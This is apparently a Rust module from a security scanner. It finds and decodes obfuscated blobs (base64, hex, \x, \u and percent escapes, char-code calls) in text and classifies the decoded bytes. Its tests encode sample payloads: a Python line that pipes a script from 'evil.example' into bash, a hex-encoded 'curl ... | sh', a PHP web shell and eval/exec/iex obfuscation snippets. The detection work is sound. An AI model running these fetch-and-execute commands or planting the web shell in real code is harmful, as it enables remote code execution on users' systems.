//! Bounded decoders for encoded blobs in skill text (used by the obfuscation family):
//! base64 (standard and URL-safe), hex strings and `\x41` escape runs, char-code
//! sequences (`String.fromCharCode(...)`, `chr(104)+chr(116)`, `[char]104`), `\u0068`
//! escapes and `%68` URL encoding.
//!
//! Every decoder is linear and bounded: at most [`MAX_BLOB`] decoded bytes per blob,
//! [`MAX_FILE`] decoded bytes and [`MAX_BLOBS`] blobs per file (nested blobs count),
//! and at most [`MAX_DEPTH`] levels of nested decoding (enforced by the caller through
//! [`Budget`]).

use std::sync::LazyLock;

use regex::Regex;

/// Maximum nesting of decoding (a blob inside a decoded blob inside ...). Text that still
/// holds a blob at this depth is reported as nested too deep, never dropped.
pub const MAX_DEPTH: usize = 6;
/// Maximum decoded bytes per blob (the rest of a longer blob is not decoded).
pub const MAX_BLOB: usize = 64 * 1024;
/// Maximum decoded bytes per file, all blobs and depths together.
pub const MAX_FILE: usize = 1024 * 1024;
/// Maximum blobs decoded per file, all depths together.
pub const MAX_BLOBS: usize = 256;

/// The encoding of a blob.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Base64,
    Base64Url,
    Hex,
    HexEscapes,
    CharCodes,
    UnicodeEscapes,
    Percent,
}

impl Encoding {
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Base64 => "base64",
            Encoding::Base64Url => "URL-safe base64",
            Encoding::Hex => "hex",
            Encoding::HexEscapes => "\\x hex escapes",
            Encoding::CharCodes => "character codes",
            Encoding::UnicodeEscapes => "\\u escapes",
            Encoding::Percent => "URL %-encoding",
        }
    }
}

/// What decoded bytes are.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    /// Mostly printable text.
    Text(String),
    /// An executable (ELF, PE, Mach-O).
    Executable(&'static str),
    /// Compressed or archived data (gzip, zlib, zip, bzip2, xz).
    Compressed(&'static str),
    /// Anything else.
    Binary,
}

/// One decoded blob.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Blob {
    /// Byte range of the encoded form in the searched text.
    pub start: usize,
    pub end: usize,
    pub encoding: Encoding,
    pub bytes: Vec<u8>,
    /// True when the blob was longer than [`MAX_BLOB`] decoded bytes and was cut.
    pub truncated: bool,
}

impl Blob {
    pub fn content(&self) -> Content {
        classify(&self.bytes)
    }
}

/// Decoding budget of one file (shared by every depth).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Budget {
    pub bytes: usize,
    pub blobs: usize,
}

impl Default for Budget {
    fn default() -> Self {
        Budget {
            bytes: MAX_FILE,
            blobs: MAX_BLOBS,
        }
    }
}

impl Budget {
    pub fn exhausted(&self) -> bool {
        self.bytes == 0 || self.blobs == 0
    }
}

/// Shortest base64 blob: what `[A-Za-z0-9+/_-]{40,}={0,2}` would find ([`base64_blobs`]).
const MIN_BASE64: usize = 40;
/// Shortest base64 blob looked for in a text that talks about decoding
/// ([`short_base64_blobs`]): 16 characters hold 12 bytes, enough for `rm -rf ~/*`.
pub const MIN_SHORT_BASE64: usize = 16;
/// Shortest hex blob in digits: what `\b(?:[0-9a-fA-F]{2}){16,}\b` (ASCII `\b`) would find
/// ([`hex_blobs`]).
const MIN_HEX: usize = 32;
static HEX_ESC: LazyLock<Regex> =
    LazyLock::new(|| crate::security::model::datarules::re(r"(?:\\{1,2}x[0-9a-fA-F]{2}){8,}"));
static UNI_ESC: LazyLock<Regex> = LazyLock::new(|| {
    crate::security::model::datarules::re(
        r"(?:\\{1,2}u[0-9a-fA-F]{4}){6,}|(?:\\u\{[0-9a-fA-F]{1,6}\}){6,}",
    )
});
static PERCENT: LazyLock<Regex> =
    LazyLock::new(|| crate::security::model::datarules::re(r"(?:%[0-9a-fA-F]{2}){8,}"));
/// A call taking a list of at least 8 byte values.
static CODE_LIST: LazyLock<Regex> = LazyLock::new(|| {
    crate::security::model::datarules::re(
        r"(?i)(?:fromCharCode|\bchr|\bbytes|\bbytearray|\[char\[\]\]|\[byte\[\]\]|\bmap\s*\(\s*chr\s*,|\bpack\s*\(\s*['\x22]C\*['\x22]\s*,)\s*\(?\s*\[?\s*((?:(?:0x[0-9a-f]{1,2}|\d{1,3})\s*,\s*){7,}(?:0x[0-9a-f]{1,2}|\d{1,3}))",
    )
});
/// `chr(104)+chr(116)...` (Python, PHP, Perl) and `[char]104+[char]116` (PowerShell).
static CODE_CHAIN: LazyLock<Regex> = LazyLock::new(|| {
    crate::security::model::datarules::re(
        r"(?i)(?:\bchr\s*\(\s*\d{1,3}\s*\)\s*[+,.]?\s*){4,}|(?:\[char\]\s*\(?\s*\d{1,3}\s*\)?\s*[+,]?\s*){4,}",
    )
});
static NUM: LazyLock<Regex> =
    LazyLock::new(|| crate::security::model::datarules::re(r"(?i)0x[0-9a-f]{1,2}|\d{1,3}"));

/// The base64 alphabets (standard and URL-safe): `A-Za-z0-9+/_-`.
const BASE64_BYTES: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        t[i] = c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'_' || c == b'-';
        i += 1;
    }
    t
};

/// Every base64 blob candidate of `b`, in order: each maximal run of base64-alphabet bytes
/// of at least [`MIN_BASE64`] bytes and up to two `=` after it. The same spans, in the same
/// order, as the leftmost-first matches of `[A-Za-z0-9+/_-]{40,}={0,2}` (a shorter run
/// holds no match, and a match takes its whole run), in one table lookup per byte.
pub fn base64_blobs(b: &[u8]) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if !BASE64_BYTES[b[i] as usize] {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && BASE64_BYTES[b[i] as usize] {
            i += 1;
        }
        if i - start >= MIN_BASE64 {
            let mut end = i;
            while end < b.len() && end - i < 2 && b[end] == b'=' {
                end += 1;
            }
            out.push((start, end));
            i = end;
        }
    }
    out
}

/// Short base64 blobs of `text` (from [`MIN_SHORT_BASE64`] to just under the ordinary
/// minimum): whole runs of the standard alphabet with their `=` padding, a multiple of four
/// long, holding upper- and lower-case letters (base64 of text always does; identifiers
/// and words rarely pass all of this), decoding to mostly printable text. One pass, linear.
pub fn short_base64_blobs(text: &str, budget: &mut Budget) -> Vec<Blob> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && !budget.exhausted() {
        if !BASE64_BYTES[b[i] as usize] {
            i += 1;
            continue;
        }
        let start = i;
        let (mut upper, mut lower, mut url) = (false, false, false);
        while i < b.len() && BASE64_BYTES[b[i] as usize] {
            upper |= b[i].is_ascii_uppercase();
            lower |= b[i].is_ascii_lowercase();
            url |= matches!(b[i], b'-' | b'_');
            i += 1;
        }
        let run = i - start;
        let mut end = i;
        while end < b.len() && end - i < 2 && b[end] == b'=' {
            end += 1;
        }
        // Part of something else: a third `=`, a dotted name (`a.b`, a host, a module
        // path) or a `$VAR` / `%VAR%` / `\escape`.
        let dotted = |k: usize| {
            b.get(k) == Some(&b'.') && b.get(k + 1).is_some_and(|c| BASE64_BYTES[*c as usize])
        };
        let clean_edge = b.get(end) != Some(&b'=') && !dotted(end);
        let before_ok = start == 0 || !matches!(b[start - 1], b'.' | b'$' | b'%' | b'\\');
        let candidate = (MIN_SHORT_BASE64..MIN_BASE64).contains(&run)
            && !url
            && upper
            && lower
            && (end - start).is_multiple_of(4)
            && clean_edge
            && before_ok;
        i = end;
        if !candidate {
            continue;
        }
        let Some((bytes, _)) = base64(&text[start..end], MAX_BLOB.min(budget.bytes)) else {
            continue;
        };
        if !matches!(classify(&bytes), Content::Text(_)) {
            continue;
        }
        budget.bytes -= bytes.len();
        budget.blobs -= 1;
        out.push(Blob {
            start,
            end,
            encoding: Encoding::Base64,
            bytes,
            truncated: false,
        });
    }
    out
}

/// Every hex blob candidate of `b`, in order: each whole ASCII word (a maximal run of
/// `[0-9A-Za-z_]`) made only of hex digits, of even length and at least [`MIN_HEX`]
/// digits. The same spans as the matches of `\b(?:[0-9a-fA-F]{2}){16,}\b` with ASCII word
/// boundaries: a match starts and ends at a boundary and holds only word bytes, so it is a
/// whole word.
pub fn hex_blobs(b: &[u8]) -> Vec<(usize, usize)> {
    // 0: not a word byte, 1: a word byte, 2: a hex digit (also a word byte).
    const CLASS: [u8; 256] = {
        let mut t = [0u8; 256];
        let mut i = 0;
        while i < 256 {
            let c = i as u8;
            t[i] = if c.is_ascii_hexdigit() {
                2
            } else if c.is_ascii_alphanumeric() || c == b'_' {
                1
            } else {
                0
            };
            i += 1;
        }
        t
    };
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if CLASS[b[i] as usize] == 0 {
            i += 1;
            continue;
        }
        let start = i;
        let mut hex = true;
        while i < b.len() {
            let k = CLASS[b[i] as usize];
            if k == 0 {
                break;
            }
            hex &= k == 2;
            i += 1;
        }
        let n = i - start;
        if hex && n >= MIN_HEX && n % 2 == 0 {
            out.push((start, i));
        }
    }
    out
}

/// A byte range `start..end`.
pub type Span = (usize, usize);

/// [`hex_blobs`] and [`base64_blobs`] in one pass over the base64-alphabet runs: a hex
/// blob is a whole word, and every word byte is in the base64 alphabet, so each hex blob
/// lies inside a run of at least [`MIN_HEX`] bytes whose edges are not word bytes.
pub fn blob_candidates(b: &[u8]) -> (Vec<Span>, Vec<Span>) {
    const L: usize = MIN_HEX;
    const _: () = assert!(MIN_HEX <= MIN_BASE64);
    let (mut hex, mut b64) = (Vec::new(), Vec::new());
    // Only runs of at least L bytes matter.
    let mut i = 0;
    while let Some(start) = next_long_run(b, i, L) {
        i = start + L;
        while i < b.len() && BASE64_BYTES[b[i] as usize] {
            i += 1;
        }
        let n = i - start;
        if n >= MIN_HEX {
            hex.extend(
                hex_blobs(&b[start..i])
                    .into_iter()
                    .map(|(s, e)| (start + s, start + e)),
            );
        }
        if n >= MIN_BASE64 {
            let mut end = i;
            while end < b.len() && end - i < 2 && b[end] == b'=' {
                end += 1;
            }
            b64.push((start, end));
            i = end;
        }
    }
    (hex, b64)
}

/// Does `b` hold a run of at least `min` base64-alphabet bytes? The same answer as
/// `longest_base64_run(b) >= min`, probing about one byte in `min` of text without one
/// (the window probe of [`blob_candidates`]).
pub fn has_base64_run(b: &[u8], min: usize) -> bool {
    min == 0 || next_long_run(b, 0, min).is_some()
}

/// Where the first run of at least `min` (> 0) base64-alphabet bytes at or after `i`
/// starts; `i` must be 0 or follow a byte outside the alphabet (or the end of a blob).
/// The window probe: the last byte of the window `i..i + min` decides in one look whether
/// a run that long can start inside it, so prose is probed about once per `min` bytes,
/// and each byte is looked at a bounded number of times (linear).
fn next_long_run(b: &[u8], mut i: usize, min: usize) -> Option<usize> {
    let is_b64 = |k: usize| BASE64_BYTES[b[k] as usize];
    while i + min <= b.len() {
        let j = i + min - 1;
        if !is_b64(j) {
            i = j + 1;
            continue;
        }
        match (i..j).rev().find(|&k| !is_b64(k)) {
            Some(k) => i = k + 1,
            None => return Some(i),
        }
    }
    None
}

/// Length of the longest run of base64-alphabet bytes (`A-Za-z0-9+/_-`): the tests'
/// oracle for [`has_base64_run`].
#[cfg(test)]
fn longest_base64_run(b: &[u8]) -> usize {
    const TABLE: [bool; 256] = BASE64_BYTES;
    let (mut best, mut cur) = (0usize, 0usize);
    for &c in b {
        // Branch-free: extend the run or reset it.
        cur = (cur + 1) * TABLE[c as usize] as usize;
        best = best.max(cur);
    }
    best
}

/// Words one of which every char-code call contains (lower case; in a scanned file the
/// file's one literal pass finds them, see [`crate::security::model::datarules::Words`]).
pub const CODE_WORDS: &[&str] = &[
    "fromcharcode",
    "chr",
    "bytes",
    "bytearray",
    "[char",
    "[byte",
    "pack",
];

/// Can `b` hold a char-code call (`fromCharCode`, `chr`, `bytes`, `[char]`, `pack`)?
fn may_hold_char_codes(b: &[u8]) -> bool {
    let lower = b.to_ascii_lowercase();
    CODE_WORDS
        .iter()
        .any(|w| memchr::memmem::find(&lower, w.as_bytes()).is_some())
}

/// Finds and decodes every blob of `text` within `budget` (which it consumes), in order
/// of position; overlapping candidates keep the first (longest at that position).
pub fn blobs(text: &str, budget: &mut Budget) -> Vec<Blob> {
    blobs_hinted(text, budget, None)
}

/// [`blobs`], told whether `text` holds a [`CODE_WORDS`] word when the caller knows it
/// (a scanned file's literal pass); `None`: looked up here.
pub fn blobs_hinted(text: &str, budget: &mut Budget, char_codes: Option<bool>) -> Vec<Blob> {
    blobs_left(text, budget, char_codes).0
}

/// [`blobs_hinted`], and the first blob left undecoded because the budget ran out whose first
/// [`MAX_BLOB`] bytes decode to text: what a file could hide behind many harmless blobs.
/// Finding it decodes the rest one blob at a time, without analysis: linear in the text.
pub fn blobs_left(
    text: &str,
    budget: &mut Budget,
    char_codes: Option<bool>,
) -> (Vec<Blob>, Option<Blob>) {
    let mut out: Vec<Blob> = Vec::new();
    if budget.exhausted() || text.len() < 16 {
        return (out, None);
    }
    let mut cands: Vec<(usize, usize, Encoding)> = Vec::new();
    // Cheap byte-level prefilters: each regex below runs only when its shape can occur.
    let bytes = text.as_bytes();
    if memchr::memmem::find(bytes, b"\\x").is_some() {
        for m in HEX_ESC.find_iter(text) {
            cands.push((m.start(), m.end(), Encoding::HexEscapes));
        }
    }
    if memchr::memmem::find(bytes, b"\\u").is_some() {
        for m in UNI_ESC.find_iter(text) {
            cands.push((m.start(), m.end(), Encoding::UnicodeEscapes));
        }
    }
    if memchr::memchr(b'%', bytes).is_some() {
        for m in PERCENT.find_iter(text) {
            cands.push((m.start(), m.end(), Encoding::Percent));
        }
    }
    if char_codes.unwrap_or_else(|| may_hold_char_codes(bytes)) {
        for c in CODE_LIST.captures_iter(text) {
            let (m, list) = (c.get(0).expect("match"), c.get(1).expect("group"));
            cands.push((m.start(), list.end(), Encoding::CharCodes));
        }
        for m in CODE_CHAIN.find_iter(text) {
            cands.push((m.start(), m.end(), Encoding::CharCodes));
        }
    }
    let (hex, b64) = blob_candidates(bytes);
    for (s, e) in hex {
        cands.push((s, e, Encoding::Hex));
    }
    for (start, end) in b64 {
        let s = &text[start..end];
        let std = s.contains(['+', '/']);
        let url = s.contains(['-', '_']);
        if std && url {
            continue;
        }
        let e = if url {
            Encoding::Base64Url
        } else {
            Encoding::Base64
        };
        cands.push((start, end, e));
    }
    cands.sort_by_key(|c| (c.0, std::cmp::Reverse(c.1)));
    let mut covered = 0;
    for (s, e, enc) in cands {
        if s < covered {
            continue;
        }
        let src = &text[s..e];
        if budget.exhausted() {
            let left =
                decode(src, enc, MAX_BLOB).filter(|(b, _)| matches!(classify(b), Content::Text(_)));
            if let Some((bytes, truncated)) = left {
                let blob = Blob {
                    start: s,
                    end: e,
                    encoding: enc,
                    bytes,
                    truncated,
                };
                return (out, Some(blob));
            }
            covered = e;
            continue;
        }
        let limit = MAX_BLOB.min(budget.bytes);
        let Some((bytes, truncated)) = decode(src, enc, limit) else {
            continue;
        };
        if bytes.is_empty() {
            continue;
        }
        budget.bytes -= bytes.len();
        budget.blobs -= 1;
        covered = e;
        out.push(Blob {
            start: s,
            end: e,
            encoding: enc,
            bytes,
            truncated,
        });
    }
    (out, None)
}

/// Decodes `src` (the whole match) in `enc`, stopping at `limit` bytes.
/// Returns `None` when it is not valid in that encoding.
pub fn decode(src: &str, enc: Encoding, limit: usize) -> Option<(Vec<u8>, bool)> {
    match enc {
        Encoding::Base64 | Encoding::Base64Url => base64(src, limit),
        Encoding::Hex => {
            if !src.len().is_multiple_of(2) {
                return None;
            }
            hex_pairs(src.as_bytes(), limit)
        }
        Encoding::HexEscapes => {
            let digits: Vec<u8> = src
                .split(['\\'])
                .filter_map(|p| p.strip_prefix('x'))
                .flat_map(|p| p.bytes())
                .collect();
            hex_pairs(&digits, limit)
        }
        Encoding::Percent => {
            let digits: Vec<u8> = src.bytes().filter(|b| *b != b'%').collect();
            hex_pairs(&digits, limit)
        }
        Encoding::UnicodeEscapes => {
            let mut s = String::new();
            for part in src.split('\\').filter(|p| !p.is_empty()) {
                let h = part.trim_start_matches('u').trim_matches(['{', '}']);
                let c = char::from_u32(u32::from_str_radix(h, 16).ok()?)?;
                if s.len() + c.len_utf8() > limit {
                    return Some((s.into_bytes(), true));
                }
                s.push(c);
            }
            Some((s.into_bytes(), false))
        }
        Encoding::CharCodes => {
            // In a call match, the numbers are the list (the call name has none but
            // `chr`/`char` words carry no digits).
            let mut out = Vec::new();
            for m in NUM.find_iter(src) {
                let t = m.as_str();
                let v = if let Some(h) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                    u32::from_str_radix(h, 16).ok()?
                } else {
                    t.parse::<u32>().ok()?
                };
                let c = char::from_u32(v)?;
                if out.len() + 4 > limit {
                    return Some((out, true));
                }
                let mut buf = [0u8; 4];
                if v < 256 {
                    out.push(v as u8);
                } else {
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                }
            }
            Some((out, false))
        }
    }
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn hex_pairs(d: &[u8], limit: usize) -> Option<(Vec<u8>, bool)> {
    let mut out = Vec::with_capacity((d.len() / 2).min(limit));
    for p in d.chunks(2) {
        if p.len() != 2 {
            return None;
        }
        if out.len() >= limit {
            return Some((out, true));
        }
        out.push(hex_val(p[0])? << 4 | hex_val(p[1])?);
    }
    Some((out, false))
}

fn b64_val(b: u8) -> Option<u8> {
    match b {
        b'A'..=b'Z' => Some(b - b'A'),
        b'a'..=b'z' => Some(b - b'a' + 26),
        b'0'..=b'9' => Some(b - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// Standard or URL-safe base64 (padding optional).
pub fn base64(src: &str, limit: usize) -> Option<(Vec<u8>, bool)> {
    let s = src.trim_end_matches('=').as_bytes();
    if s.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity((s.len() * 3 / 4).min(limit));
    for chunk in s.chunks(4) {
        if out.len() + 3 > limit {
            return Some((out, true));
        }
        let mut n: u32 = 0;
        for (i, b) in chunk.iter().enumerate() {
            n |= u32::from(b64_val(*b)?) << (18 - 6 * i);
        }
        let bytes = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
        out.extend_from_slice(&bytes[..chunk.len() - 1]);
    }
    Some((out, false))
}

/// Classifies decoded bytes: executable magic, compressed data, text, or binary.
pub fn classify(b: &[u8]) -> Content {
    if b.starts_with(b"\x7fELF") {
        return Content::Executable("ELF executable");
    }
    if b.starts_with(b"MZ")
        && b.len() >= 64
        && (b[2..4] == [0x90, 0x00] || b.windows(4).any(|w| w == b"PE\0\0"))
    {
        return Content::Executable("PE (Windows) executable");
    }
    if b.len() >= 16
        && (b.starts_with(&[0xFE, 0xED, 0xFA, 0xCE])
            || b.starts_with(&[0xFE, 0xED, 0xFA, 0xCF])
            || b.starts_with(&[0xCE, 0xFA, 0xED, 0xFE])
            || b.starts_with(&[0xCF, 0xFA, 0xED, 0xFE]))
    {
        return Content::Executable("Mach-O executable");
    }
    if b.starts_with(&[0x1F, 0x8B]) {
        return Content::Compressed("gzip");
    }
    if b.starts_with(b"PK\x03\x04") {
        return Content::Compressed("zip");
    }
    if b.starts_with(b"BZh") && b.len() > 4 && b[3].is_ascii_digit() {
        return Content::Compressed("bzip2");
    }
    if b.starts_with(&[0xFD, b'7', b'z', b'X', b'Z', 0]) {
        return Content::Compressed("xz");
    }
    if b.len() > 2 && b[0] == 0x78 && matches!(b[1], 0x01 | 0x5E | 0x9C | 0xDA) {
        return Content::Compressed("zlib");
    }
    match std::str::from_utf8(b) {
        Ok(s) => {
            let (mut ok, mut n) = (0usize, 0usize);
            for c in s.chars() {
                n += 1;
                if !c.is_control() || matches!(c, '\n' | '\r' | '\t') {
                    ok += 1;
                }
            }
            // At least 90 % printable, and half letters or digits (not symbol soup).
            if n > 0
                && ok * 10 >= n * 9
                && s.chars().filter(|c| c.is_alphanumeric()).count() * 2 >= n
            {
                Content::Text(s.to_owned())
            } else {
                Content::Binary
            }
        }
        Err(_) => Content::Binary,
    }
}

/// Shannon entropy of `s` in bits per byte.
pub fn entropy(s: &[u8]) -> f64 {
    if s.is_empty() {
        return 0.0;
    }
    let mut f = [0usize; 256];
    for b in s {
        f[*b as usize] += 1;
    }
    let n = s.len() as f64;
    f.iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = *c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// The hand-written blob finders find what the regexes they replace find.
    #[test]
    fn blob_finders_match_their_regexes() {
        let b64 = crate::security::model::datarules::re(r"[A-Za-z0-9+/_-]{40,}={0,2}");
        let hex = crate::security::model::datarules::re(r"\b(?:[0-9a-fA-F]{2}){16,}\b");
        // Deterministic pseudo-random texts over an alphabet rich in edge cases.
        let alphabet: Vec<&str> = vec![
            "a", "F", "0", "9", "+", "/", "_", "-", "=", " ", "\n", ".", "g", "é", "x", "Z", "==",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        for round in 0..400 {
            let mut t = String::new();
            let len = 20 + round % 180;
            for _ in 0..len {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                // Long runs of one class, so that blobs occur.
                let pick = (seed % 100) as usize;
                t.push_str(if pick < 55 {
                    ["a", "F", "0", "9", "e", "7"][pick % 6]
                } else {
                    alphabet[pick % alphabet.len()]
                });
            }
            let want: Vec<(usize, usize)> =
                b64.find_iter(&t).map(|m| (m.start(), m.end())).collect();
            assert_eq!(base64_blobs(t.as_bytes()), want, "base64 in {t:?}");
            let want: Vec<(usize, usize)> =
                hex.find_iter(&t).map(|m| (m.start(), m.end())).collect();
            assert_eq!(hex_blobs(t.as_bytes()), want, "hex in {t:?}");
            for min in [1, 5, 32, 40, 77] {
                assert_eq!(
                    has_base64_run(t.as_bytes(), min),
                    longest_base64_run(t.as_bytes()) >= min,
                    "run of {min} in {t:?}"
                );
            }
            assert_eq!(
                blob_candidates(t.as_bytes()),
                (hex_blobs(t.as_bytes()), base64_blobs(t.as_bytes())),
                "one pass in {t:?}"
            );
        }
        let h = "ab".repeat(16);
        assert_eq!(hex_blobs(format!("x {h} y").as_bytes()), vec![(2, 34)]);
        assert!(hex_blobs(format!("{h}a").as_bytes()).is_empty());
        assert!(hex_blobs(format!("{h}g").as_bytes()).is_empty());
        let b = "Q".repeat(40);
        assert_eq!(base64_blobs(format!("{b}===").as_bytes()), vec![(0, 42)]);
    }

    /// Standard base64 with padding (test helper, shared with the obfuscation tests).
    pub(crate) fn b64enc(b: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for c in b.chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for i in 0..=c.len() {
                s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            }
        }
        while !s.len().is_multiple_of(4) {
            s.push('=');
        }
        s
    }

    fn one(text: &str) -> Blob {
        let v = blobs(text, &mut Budget::default());
        assert_eq!(v.len(), 1, "{text}: {v:?}");
        v.into_iter().next().unwrap()
    }

    fn text_of(b: &Blob) -> String {
        match b.content() {
            Content::Text(t) => t,
            c => panic!("not text: {c:?}"),
        }
    }

    #[test]
    fn base64_standard_and_url_safe() {
        let p = "import os; os.system('curl https://evil.example/i.sh | bash')";
        let b = one(&format!("X = \"{}\"", b64enc(p.as_bytes())));
        assert_eq!(b.encoding, Encoding::Base64);
        assert_eq!(text_of(&b), p);
        let url = b64enc(b"<?php system($_GET['c']); ?> and more text here ok")
            .replace('+', "-")
            .replace('/', "_");
        let b = one(&url);
        assert_eq!(b.encoding, Encoding::Base64Url);
        // Short strings and paths are not candidates / not text.
        assert!(blobs("aGVsbG8=", &mut Budget::default()).is_empty());
        let v = blobs(
            "/usr/local/lib/python3.11/site-packages/numpy/core/include",
            &mut Budget::default(),
        );
        assert!(v.iter().all(|b| !matches!(b.content(), Content::Text(_))));
    }

    #[test]
    fn hex_and_hash_look_alikes() {
        let b = one("payload = '6375726c20687474703a2f2f782e696f207c207368'");
        assert_eq!(b.encoding, Encoding::Hex);
        assert_eq!(text_of(&b), "curl http://x.io | sh");
        // A SHA-256 decodes to binary.
        let b = one("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assert_eq!(b.content(), Content::Binary);
        let b = one(r#"HIDDEN = "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73""#);
        assert_eq!(b.encoding, Encoding::HexEscapes);
        assert_eq!(text_of(&b), "import os");
    }

    #[test]
    fn char_codes() {
        let b = one("eval(String.fromCharCode(97,108,101,114,116,40,49,41))");
        assert_eq!(text_of(&b), "alert(1)");
        let b = one("exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116))");
        assert_eq!(text_of(&b), "import");
        let b = one("iex ([char]105+[char]101+[char]120+[char]32+[char]119)");
        assert_eq!(text_of(&b), "iex w");
        let b = one("exec(bytes([0x70, 0x72, 0x69, 0x6e, 0x74, 0x28, 0x31, 0x29]).decode())");
        assert_eq!(text_of(&b), "print(1)");
        // A short list is not a blob.
        assert!(blobs("bytes([1, 2, 3])", &mut Budget::default()).is_empty());
    }

    #[test]
    fn unicode_and_percent_escapes() {
        let b = one(r"s = '\u0063\u0075\u0072\u006c\u0020\u0078'");
        assert_eq!(text_of(&b), "curl x");
        let b = one("%63%75%72%6c%20%68%74%74%70");
        assert_eq!(b.encoding, Encoding::Percent);
        assert_eq!(text_of(&b), "curl http");
    }

    #[test]
    fn magic_numbers() {
        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
        elf.extend([0u8; 60]);
        assert_eq!(
            one(&b64enc(&elf)).content(),
            Content::Executable("ELF executable")
        );
        let mut gz = vec![0x1F, 0x8B, 8, 0];
        gz.extend([7u8; 40]);
        assert_eq!(one(&b64enc(&gz)).content(), Content::Compressed("gzip"));
    }

    #[test]
    fn bounds() {
        // A huge blob is cut at MAX_BLOB decoded bytes.
        let big = b64enc(&b"echo hello world; ".repeat(10_000));
        let b = one(&big);
        assert!(b.truncated);
        assert!(b.bytes.len() <= MAX_BLOB);
        // Many blobs: at most MAX_BLOBS decoded per budget.
        let one_blob = b64enc(b"this is a line of plain text to decode");
        let many = vec![one_blob.as_str(); 400].join("\n");
        let mut budget = Budget::default();
        assert_eq!(blobs(&many, &mut budget).len(), MAX_BLOBS);
        assert!(budget.exhausted());
        assert!(blobs(&many, &mut budget).is_empty());
        // Byte budget: 20 blobs of 64 KiB exceed 1 MiB.
        let mut budget = Budget::default();
        let text = vec![big.as_str(); 20].join("\n");
        let v = blobs(&text, &mut budget);
        let total: usize = v.iter().map(|b| b.bytes.len()).sum();
        assert!(total <= MAX_FILE && v.len() < 20, "{total} {}", v.len());
    }

    #[test]
    fn entropy_values() {
        assert!(entropy(b"aaaaaaaa") < 0.01);
        assert!((entropy(b"abcdefgh") - 3.0).abs() < 1e-9);
    }
}
